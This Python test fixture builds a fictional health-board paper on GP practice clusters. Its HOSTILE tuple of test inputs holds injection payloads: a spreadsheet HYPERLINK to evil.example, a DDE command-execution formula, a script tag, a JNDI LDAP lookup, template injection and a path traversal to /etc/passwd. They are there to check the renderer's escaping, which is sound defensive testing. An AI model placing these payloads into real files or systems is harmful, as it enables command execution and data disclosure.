"""A paper made by hand: every kind of cell, long tables, and the texts that people should never type."""

from __future__ import annotations

import io
import math

from PIL import Image, ImageDraw

from data.papers.model import Column, Paper, Picture, Section, Table

HOSTILE = (
    '=HYPERLINK("https://evil.example/","click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "#REF!",
    "<script>alert(1)</script>",
    "control\x00 \x07\x1b[31m\ufffe end",
    "W" * 90,
    "مستوصف النهر",
    "Clinic 🏥 👩🏽‍⚕️",
    "{{ 1+1 }} ${jndi:ldap://x} & \" ' \\ %s",
    "../../etc/passwd",
)
"""Texts that would run, break a file, or run out of a cell."""


def picture(name, width=1500, height=1000):
    image = Image.new("RGB", (width, height), "#e8eef2")
    draw = ImageDraw.Draw(image)
    for step in range(8):
        draw.line((0, step * height / 8, width, height - step * height / 8), fill="#0b5c7a", width=5)
    draw.rectangle((4, 4, width - 5, height - 5), outline="#17242d", width=4)
    file = io.BytesIO()
    image.save(file, "PNG")
    return Picture(name, f"Picture {name}", f"What {name} shows: lines that cross.", file.getvalue(), width, height)


SIZES = Table(
    "List sizes against 30,000 to 50,000",
    (
        Column("Cluster"),
        Column("Patients", "count"),
        Column("Minutes to the nearest practice *", "minutes"),
        Column("Within 15 minutes *", "share"),
        Column("Deprivation (mean decile) *", "decile"),
        Column("Patients against today", "change:count"),
        Column("Within against today *", "change:share"),
    ),
    (
        ("A Riverside", 31204, 6.44, 0.8312, 3.25, -3323, -0.034),
        ("B Old Town", 49880, math.nan, None, 4.5, 3323, 0.0),
        ("C Marsh", 28488, 11.06, 0.5, 10.0, 0, 0.12),
    ),
    note="Registered on 1 October 2025. C is 1,512 patients short of 30,000.",
)
PRACTICES = Table(
    "Practices, today and proposed",
    (Column("ODS code"), Column("Practice"), Column("Today"), Column("Proposed"), Column("Patients", "count")),
    tuple(
        (f"X{number:05d}", f"The {name} Surgery", "A Riverside", "B Old Town", 3000 + 77 * number)
        for number, name in enumerate(["Grove Road", "Chandler's Quay Health Centre", "Dr Osei and Partners"] * 15)
    ),
)
LONG = Table("Every place", (Column("Place"), Column("Patients", "count")), (("E01", 5),) * 40, brief=False)
SAID = Table(
    "What practices said",
    (Column("Practice"), Column("Says"), Column("Initials"), Column("Words")),
    tuple((f"Practice {number}", "supports", "AB", text) for number, text in enumerate(HOSTILE)),
)


def sample_paper(*, link="https://plans.example/?plan=watch-token"):
    """Return the paper; some of its sections have nothing but a title."""
    return Paper(
        title="Which practices work together in Saltmarsh",
        subtitle="Saltmarsh, registrations of 1 October 2025",
        fictional=True,
        plan_name="Option 2, two river clusters",
        revision="Revision 14, 22 November 2026 10:12 UTC, A Smith",
        link=link,
        sections=(
            Section(
                "purpose",
                "Which practices should work together?",
                (
                    "The board is asked to agree that 18 practices work together in five clusters from 1 April 2027.",
                    "Each practice keeps its name, its list and its contract.",
                    "Two clusters are below 30,000 patients today; none is in the proposal.",
                ),
                note="Please read before Thursday.\nSecond line of the note.\n\nA last one after a gap.",
            ),
            Section(
                "today", "Today: six PCNs", ("Two of six PCNs have fewer than 30,000 patients.",),
                pictures=(picture("map-today"),), tables=(SIZES,),
            ),
            Section(
                "proposal",
                "The proposal: a title as long as it may be, which takes two lines on a slide, and so in the paper",
                ("Grove Road joins B.", "B: 46,557 to 49,880 patients.", "A: 34,527 to 31,204 patients."),
                tables=(PRACTICES, LONG), pictures=(picture("map-proposal"), picture("minutes-walk", 1600, 700)),
            ),
            Section("said", "What practices said", ("11 support, 2 are neutral.",), tables=(SAID,), note=HOSTILE[7]),
            Section("data", "Data and method", tuple(f"Sentence {number} about the data." for number in range(14))),
            Section("risks", HOSTILE[6], (), tables=(Table("Nothing here", (Column("Risk"),), ()),)),
        ),
    )  # fmt: skip
